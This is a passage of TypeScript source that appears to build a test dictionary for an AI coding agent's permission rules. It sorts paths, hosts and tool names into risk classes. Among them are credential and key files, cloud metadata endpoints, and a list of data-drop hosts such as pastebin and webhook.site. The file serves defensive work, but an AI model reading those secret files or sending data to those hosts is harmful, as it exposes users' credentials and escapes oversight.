/home/u/proj/src/__tests__/app.test.js  /home/u/proj/e2e/login.spec.ts  /home/u/proj/tests/fixtures/user.json
/home/u/proj/internal/auth/token_test.go  /home/u/proj/cypress/e2e/home.cy.ts`,
  },
  {
    subject: 'path',
    group: 'documents',
    risk: null,
    texts: `
/home/u/proj/README.md  /home/u/proj/docs/guide.md  /home/u/proj/CHANGELOG.md  /home/u/proj/CLAUDE.md  /home/u/proj/LICENSE
/home/u/proj/docs/api/index.md  /home/u/proj/docs/architecture.png  /home/u/proj/notes.txt  /home/u/proj/docs/spec.pdf
/home/u/proj/notebooks/analysis.ipynb`,
  },
  {
    subject: 'path',
    group: 'project settings',
    risk: null,
    texts: `
/home/u/proj/package.json  /home/u/proj/package-lock.json  /home/u/proj/pnpm-lock.yaml  /home/u/proj/yarn.lock  /home/u/proj/tsconfig.json
/home/u/proj/pyproject.toml  /home/u/proj/requirements.txt  /home/u/proj/Cargo.toml  /home/u/proj/go.mod  /home/u/proj/Makefile
/home/u/proj/Dockerfile  /home/u/proj/docker-compose.yml  /home/u/proj/config/app.json  /home/u/proj/config/database.yml
/home/u/proj/config.yaml  /home/u/proj/.eslintrc.json  /home/u/proj/.prettierrc  /home/u/proj/vite.config.ts  /home/u/proj/Gemfile
/home/u/proj/pom.xml  /home/u/proj/build.gradle  /home/u/proj/composer.json  /home/u/proj/.gitignore  /home/u/proj/.editorconfig
/home/u/proj/.nvmrc`,
  },
  {
    subject: 'path',
    group: 'pipelines',
    risk: 'publishes or deploys',
    texts: `
/home/u/proj/.github/workflows/ci.yml  /home/u/proj/.github/CODEOWNERS  /home/u/proj/.gitlab-ci.yml  /home/u/proj/Jenkinsfile
/home/u/proj/.circleci/config.yml  /home/u/proj/azure-pipelines.yml  /home/u/proj/bitbucket-pipelines.yml
/home/u/proj/.github/actions/build/action.yml  /home/u/proj/.travis.yml  /home/u/proj/deploy.sh`,
  },
  {
    subject: 'path',
    group: 'infrastructure',
    risk: 'publishes or deploys',
    texts: `
/home/u/proj/infra/main.tf  /home/u/proj/terraform/prod.tfvars  /home/u/proj/terraform.tfstate  /home/u/proj/k8s/deploy.yaml
/home/u/proj/charts/web/values.yaml  /home/u/proj/ansible/site.yml  /home/u/proj/infra/prod/main.tf  /home/u/proj/helm/values-prod.yaml
/home/u/proj/production/app.yml  /home/u/proj/prod/config.json  /home/u/proj/migrations/001_init.sql  /home/u/proj/db/schema.sql
/home/u/proj/prisma/schema.prisma  /home/u/proj/db/migrate/001_users.rb`,
  },
  {
    subject: 'path',
    group: 'secrets',
    risk: 'reads secrets',
    texts: `
/home/u/proj/.env  /home/u/proj/.env.local  /home/u/proj/.env.production  /home/u/proj/api/.env  /home/u/proj/secrets/token.txt
/home/u/proj/secrets.json  /home/u/proj/config/secrets.yml  /home/u/proj/config/credentials.json  /home/u/proj/credentials.json
/home/u/proj/server.key  /home/u/proj/certs/tls.pem  /home/u/proj/id_rsa  /home/u/proj/config/master.key  /home/u/proj/service-account.json
/home/u/proj/keystore.jks  /home/u/proj/cert.p12  /home/u/proj/app.pfx  /home/u/proj/.npmrc  /home/u/proj/.netrc  /home/u/proj/.envrc
/home/u/proj/secret.txt  /home/u/proj/private/key.asc  /home/u/proj/config/production.secret  /home/u/proj/.aws/credentials
/home/u/proj/.ssh/id_ed25519  /home/u/proj/.secrets  /home/u/proj/credentials  /home/u/proj/vault.yml  /home/u/proj/.pypirc
/home/u/proj/.dockercfg  /home/u/proj/db.kdbx  /home/u/proj/token  /home/u/proj/api_key.txt`,
  },
  {
    subject: 'path',
    group: 'home secrets',
    risk: 'reads secrets',
    texts: `
/home/u/.ssh/id_rsa  /home/u/.ssh/id_ed25519  /home/u/.ssh/config  /home/u/.ssh/authorized_keys  /home/u/.aws/credentials
/home/u/.aws/config  /home/u/.kube/config  /home/u/.gnupg/secring.gpg  /home/u/.netrc  /home/u/.npmrc  /home/u/.docker/config.json
/home/u/.config/gcloud/credentials.db  /home/u/.azure/accessTokens.json  /home/u/.config/gh/hosts.yml  /home/u/.git-credentials
/home/u/.pypirc  /home/u/.gem/credentials  /home/u/.cargo/credentials.toml  /home/u/.password-store/db.gpg  /home/u/.env
/home/u/.bash_history  /home/u/.zsh_history  /home/u/.terraform.d/credentials.tfrc.json  /home/u/.config/op/config  /home/u/.vault-token
/home/u/.pgpass  /home/u/.my.cnf  /home/u/Library/Keychains/login.keychain-db  /home/u/.mozilla/firefox/logins.json
/home/u/.config/google-chrome/Default/Cookies  /home/u/.local/share/keyrings/login.keyring`,
  },
  {
    subject: 'path',
    group: 'client settings',
    risk: 'disables oversight',
    texts: `
/home/u/proj/.claude/settings.json  /home/u/proj/.claude/settings.local.json  /home/u/.claude/settings.json  /home/u/.claude.json
/home/u/proj/.claude/hooks/guard.sh  /home/u/proj/.mcp.json  /etc/claude-code/managed-settings.json  /home/u/proj/.claude/agents/reviewer.md
/home/u/proj/.claude/commands/deploy.md  /home/u/.claude/CLAUDE.md  /home/u/.claude/projects/-home-u-proj/memory/MEMORY.md
/home/u/proj/.claude/launch.json  /home/u/proj/.claude/agent-memory/reviewer/MEMORY.md  /home/u/.claude/agent-memory/reviewer/MEMORY.md
/home/u/.claude/projects/-home-u-proj/6f1c.jsonl  /home/u/.claude/teams/web/config.json  /home/u/.claude/skills/deploy/SKILL.md
/home/u/.claude/jobs/nightly.json`,
  },
  {
    subject: 'path',
    group: 'repository internals',
    risk: 'executes code',
    texts: `
/home/u/proj/.git/config  /home/u/proj/.git/hooks/pre-commit  /home/u/proj/.husky/pre-commit  /home/u/proj/.vscode/settings.json
/home/u/proj/.vscode/tasks.json  /home/u/proj/.idea/workspace.xml  /home/u/proj/.gitmodules  /home/u/proj/.gitattributes
/home/u/proj/.devcontainer/devcontainer.json  /home/u/proj/.pre-commit-config.yaml`,
  },
  {
    subject: 'path',
    group: 'dependencies',
    risk: null,
    texts: `
/home/u/proj/node_modules/react/index.js  /home/u/proj/vendor/lib/a.go  /home/u/proj/.venv/bin/python  /home/u/proj/venv/bin/activate
/home/u/proj/target/debug/app  /home/u/proj/dist/index.js  /home/u/proj/build/output.js  /home/u/proj/out/index.html
/home/u/proj/coverage/index.html  /home/u/proj/.next/cache/a  /home/u/proj/__pycache__/a.pyc`,
  },
  {
    subject: 'path',
    group: 'data',
    risk: null,
    texts: `
/home/u/proj/data/users.csv  /home/u/proj/data/customers.json  /home/u/proj/app.log  /home/u/proj/logs/app.log  /home/u/proj/backup/db.sql
/home/u/proj/dump.sql  /home/u/proj/app.db  /home/u/proj/database.sqlite  /home/u/proj/data/export.parquet  /home/u/proj/uploads/a.png
/home/u/proj/tmp/a.txt  /home/u/proj/private/notes.md  /home/u/proj/confidential/plan.docx`,
  },
  {
    subject: 'path',
    group: 'home',
    risk: 'writes outside',
    texts: `
/home/u/notes.txt  /home/u/.bashrc  /home/u/.zshrc  /home/u/.profile  /home/u/.gitconfig  /home/u/.vimrc  /home/u/Documents/report.docx
/home/u/Downloads/a.zip  /home/u/Desktop/a.txt  /home/u/other/README.md  /home/u/.config/app/config.toml  /home/u/.local/bin/tool
/home/u/.cache/a  /home/u/work/api/src/main.ts  /home/u/dev/app/main.py  /home/u/.config/fish/config.fish`,
  },
  {
    subject: 'path',
    group: 'system',
    risk: 'writes outside',
    texts: `
/etc/passwd  /etc/hosts  /etc/shadow  /etc/sudoers  /etc/ssh/sshd_config  /etc/nginx/nginx.conf  /etc/crontab
/etc/systemd/system/app.service  /etc/ssl/private/server.key  /usr/local/bin/tool  /usr/bin/env  /usr/share/doc/a  /var/log/syslog
/var/log/auth.log  /var/lib/app/data.db  /var/www/index.html  /opt/app/config.yml  /root/.ssh/id_rsa  /root/.bashrc  /proc/self/environ
/proc/cpuinfo  /sys/kernel/x  /dev/sda  /boot/grub/grub.cfg  /srv/app/config.yml  /mnt/data/a.txt  /media/usb/a.txt  /run/secrets/token
/home/other/.ssh/id_rsa  /home/shared/a.txt  /Users/dev/.ssh/id_rsa  /data/a.csv  /workspace/src/main.ts  /repo/src/main.ts  /app/main.py
/Library/Preferences/a.plist  /private/etc/hosts`,
  },
  {
    subject: 'path',
    group: 'temporary',
    risk: null,
    texts: `
/tmp/notes.txt  /tmp/build/out.log  /var/tmp/a.txt  /tmp/claude/a.txt  /private/tmp/a.txt`,
  },
  {
    subject: 'host',
    group: 'code hosts',
    risk: 'network egress',
    texts: `
github.com  api.github.com  raw.githubusercontent.com  gist.github.com  codeload.github.com  gitlab.com  bitbucket.org  dev.azure.com
codeberg.org  sourceforge.net  gist.githubusercontent.com  objects.githubusercontent.com  docs.github.com  ghcr.io  git.acme.com`,
  },
  {
    subject: 'host',
    group: 'packages',
    risk: 'network egress',
    texts: `
registry.npmjs.org  www.npmjs.com  npmjs.com  pypi.org  files.pythonhosted.org  crates.io  static.crates.io  index.crates.io  docs.rs
proxy.golang.org  pkg.go.dev  rubygems.org  repo.maven.apache.org  packagist.org  hub.docker.com  registry.hub.docker.com  nuget.org
api.nuget.org  deb.debian.org  archive.ubuntu.com  registry.yarnpkg.com  unpkg.com  cdn.jsdelivr.net  esm.sh  conda.anaconda.org  brew.sh
formulae.brew.sh`,
  },
  {
    subject: 'host',
    group: 'documentation',
    risk: 'network egress',
    texts: `
docs.python.org  developer.mozilla.org  stackoverflow.com  en.wikipedia.org  docs.aws.amazon.com  learn.microsoft.com  cloud.google.com
kubernetes.io  docs.docker.com  react.dev  nextjs.org  nodejs.org  doc.rust-lang.org  go.dev  www.typescriptlang.org  tailwindcss.com
www.postgresql.org  docs.djangoproject.com  fastapi.tiangolo.com  vuejs.org  angular.dev  svelte.dev  vitejs.dev  vercel.com
www.terraform.io  registry.terraform.io  developer.hashicorp.com  docs.anthropic.com  docs.claude.com  code.claude.com  www.anthropic.com
platform.openai.com  readthedocs.io  requests.readthedocs.io  spring.io  docs.oracle.com  man7.org  www.w3.org  datatracker.ietf.org
arxiv.org  medium.com  dev.to  news.ycombinator.com  www.reddit.com  mui.com  docs.pytest.org  playwright.dev  jestjs.io  eslint.org
storybook.js.org`,
  },
  {
    subject: 'host',
    group: 'internal',
    risk: 'network egress',
    texts: `
internal.acme.com  docs.acme.com  api.acme.com  wiki.acme.corp  jira.acme.com  intranet.acme.corp  grafana.acme.internal
vault.acme.internal  localhost  127.0.0.1  10.0.0.5  192.168.1.1  host.docker.internal  acme.atlassian.net  acme.slack.com`,
  },
  {
    subject: 'host',
    group: 'metadata',
    risk: 'reads secrets',
    texts: `
169.254.169.254  metadata.google.internal  metadata.azure.com`,
  },
  {
    subject: 'host',
    group: 'drops',
    risk: 'network egress',
    texts: `
pastebin.com  transfer.sh  webhook.site  requestbin.com  file.io  ngrok.io  abc.ngrok.io  0x0.st  gofile.io  discord.com  hooks.slack.com
api.telegram.org  evil.example  bit.ly  tinyurl.com  dropbox.com  drive.google.com  docs.google.com  mega.nz  hastebin.com  api.openai.com`,
  },
  {
    subject: 'host',
    group: 'web',
    risk: 'network egress',
    texts: `
example.com  www.example.com  api.example.com  example.org  www.google.com  google.com  www.youtube.com  twitter.com  x.com
www.linkedin.com  www.facebook.com  www.bing.com  duckduckgo.com  cloudflare.com  s3.amazonaws.com  storage.googleapis.com
fonts.googleapis.com  www.figma.com  api.figma.com  linear.app  notion.so  sentry.io  acme.io  app.example.co.uk`,
  },
  {
    subject: 'tool',
    group: 'github',
    risk: 'network egress',
    texts: `
mcp__github__get_file_contents  mcp__github__search_code  mcp__github__create_issue  mcp__github__create_pull_request
mcp__github__merge_pull_request  mcp__github__list_issues  mcp__github__push_files  mcp__github__create_or_update_file
mcp__github__delete_file  mcp__github__get_me  mcp__github__list_pull_requests  mcp__github__add_issue_comment
mcp__github__create_repository  mcp__github__fork_repository  mcp__github__get_issue  mcp__github__get_pull_request
mcp__github__search_repositories  mcp__github__list_commits  mcp__github__create_branch`,
  },
  {
    subject: 'tool',
    group: 'browsers',
    risk: 'network egress',
    texts: `
mcp__playwright__browser_navigate  mcp__playwright__browser_click  mcp__playwright__browser_snapshot  mcp__playwright__browser_type
mcp__playwright__browser_take_screenshot  mcp__playwright__browser_evaluate  mcp__puppeteer__puppeteer_navigate
mcp__puppeteer__puppeteer_evaluate  mcp__puppeteer__puppeteer_screenshot  mcp__chrome-devtools__navigate_page
mcp__chrome-devtools__take_snapshot  mcp__browsermcp__browser_navigate  mcp__fetch__fetch`,
  },
  {
    subject: 'tool',
    group: 'files',
    risk: null,
    texts: `
mcp__filesystem__read_file  mcp__filesystem__write_file  mcp__filesystem__list_directory  mcp__filesystem__move_file
mcp__filesystem__search_files  mcp__filesystem__edit_file  mcp__filesystem__create_directory  mcp__filesystem__directory_tree
mcp__memory__create_entities  mcp__memory__read_graph  mcp__memory__search_nodes  mcp__git__git_status  mcp__git__git_commit`,
  },
  {
    subject: 'tool',
    group: 'work',
    risk: null,
    texts: `
mcp__atlassian__getJiraIssue  mcp__atlassian__createJiraIssue  mcp__atlassian__searchConfluence  mcp__jira__get_issue
mcp__jira__create_issue  mcp__jira__search_issues  mcp__linear__list_issues  mcp__linear__create_issue  mcp__linear__get_issue
mcp__notion__search  mcp__notion__create-pages  mcp__notion__fetch  mcp__slack__post_message  mcp__slack__list_channels
mcp__slack__search_messages  mcp__asana__create_task  mcp__confluence__search  mcp__figma__get_code  mcp__figma__get_image
mcp__figma__get_design_context  mcp__sentry__list_issues  mcp__sentry__get_issue_details  mcp__claude_ai_Slack__slack_send_message`,
  },
  {
    subject: 'tool',
    group: 'databases',
    risk: 'reads secrets',
    texts: `
mcp__postgres__query  mcp__postgres__list_tables  mcp__mysql__query  mcp__sqlite__read_query  mcp__sqlite__write_query
mcp__supabase__execute_sql  mcp__supabase__list_tables  mcp__supabase__apply_migration  mcp__mongodb__find  mcp__mongodb__aggregate
mcp__redis__get  mcp__bigquery__execute_query  mcp__snowflake__run_query`,
  },
  {
    subject: 'tool',
    group: 'documentation',
    risk: null,
    texts: `
mcp__context7__resolve-library-id  mcp__context7__get-library-docs  mcp__context7__query-docs  mcp__deepwiki__ask_question
mcp__aws-docs__search_documentation  mcp__sequential-thinking__sequentialthinking  mcp__exa__web_search_exa
mcp__brave-search__brave_web_search  mcp__tavily__tavily_search  mcp__perplexity__search`,
  },
  {
    subject: 'tool',
    group: 'operations',
    risk: 'publishes or deploys',
    texts: `
mcp__kubernetes__kubectl_get  mcp__kubernetes__kubectl_delete  mcp__kubernetes__kubectl_apply  mcp__aws__call_aws  mcp__terraform__apply
mcp__vercel__deploy_to_vercel  mcp__vercel__list_projects  mcp__cloudflare__workers_deploy  mcp__stripe__create_refund
mcp__stripe__list_customers  mcp__gmail__send_email  mcp__gmail__search_emails  mcp__google-drive__search  mcp__datadog__get_logs
mcp__grafana__query_prometheus  mcp__docker__run_container  mcp__ide__executeCode  mcp__ide__getDiagnostics
mcp__serena__execute_shell_command  mcp__serena__find_symbol`,
  },
  {
    subject: 'agent',
    group: 'agents',
    risk: null,
    texts: `
general-purpose  Explore  Plan  statusline-setup  claude-code-guide  code-reviewer  security-auditor  debugger  test-runner  reviewer
doc-writer  deployer  researcher  frontend-dev  data-analyst`,
  },
  {
    subject: 'skill',
    group: 'skills',
    risk: null,
    texts: `
deploy  review  commit  code-review  security-review  release  simplify  verify  init  pdf  docx  xlsx  frontend-design  write-tests  debug
plan  test  update-config  loop  schedule`,
  },
];

/** Where the dictionary's paths stand. */
export const DICTIONARY_ANCHORS = { cwd: '/home/u/proj', home: '/home/u' };

const known = new Map<string, readonly Entry[]>();

/** The texts of one subject, class by class; none for a subject the dictionary has no words for. Split when first asked for. */
export function entriesOf(subject: string): readonly Entry[] {
  const entries = known.get(subject) ?? ROWS.filter((row) => row.subject === subject).flatMap(entriesIn);
  known.set(subject, entries);
  return entries;
}

const entriesIn = ({ subject, group, risk, texts }: Row): readonly Entry[] =>
  texts
    .trim()
    .split(/ {2,}|\n/)
    .map((text) => ({ subject, text, group, risk }));

const readings = (text: string): readonly (readonly string[])[] => text.split('|').map((reading) => reading.split(','));

/** Words that stand for `*` in a rule, by what the rule speaks of: readings apart by `|`, star after star apart by `,`. */
export const FILLERS: Readonly<
  Record<'command' | 'cmdlet' | 'path' | 'host' | 'agent' | 'skill' | 'tool' | 'field', readonly (readonly string[])[]>
> = {
  command: readings('main|--output=out.txt|src||x,|,x|run,done|https://example.com'),
  cmdlet: readings('main|-recurse|src|'),
  path: readings('config,app.json|src,main.ts|notes.md|a|'),
  host: readings('api|www|example.com|docs.example|'),
  agent: readings('reviewer'),
  skill: readings('-staging|deploy|'),
  tool: readings('github__search_code|search|get_item|'),
  field: readings('x|prod|'),
};

/** Readings that put the text between two stars inside quotes. */
export const QUOTED = readings('echo "x,y"|"x,y"|x "y,z"');

/** What tools are given in fields that rules may name. */
export const FIELD_VALUES: ReadonlyMap<string, string> = new Map([
  ...(['run_in_background', 'dangerouslyDisableSandbox', 'replace_all'] as const).map(
    (name) => [name, 'true'] as const,
  ),
  ['timeout', '600000'],
  ['limit', '2000'],
  ['offset', '100'],
  ['pages', '1-5'],
  ['model', 'opus'],
  ['subagent_type', 'general-purpose'],
  ['isolation', 'worktree'],
  ['description', 'Deploy to production'],
]);
